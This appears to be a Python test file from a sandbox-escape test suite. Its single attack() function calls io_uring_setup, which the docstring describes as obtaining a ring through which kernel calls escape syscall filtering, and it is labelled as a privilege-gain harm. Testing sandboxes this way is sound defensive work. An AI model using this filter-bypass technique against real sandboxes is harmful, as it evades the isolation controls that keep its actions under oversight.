"""Gets a ring through which the kernel makes calls that no filter sees."""

import ctypes

from tests.sandbox.escape.calls import syscall
from tests.sandbox.escape.target import Harm, Target

HARM = Harm.GAIN


def attack(target: Target) -> bytes:
    parameters = ctypes.create_string_buffer(120)
    return str(syscall("io_uring_setup", 4, parameters)).encode()
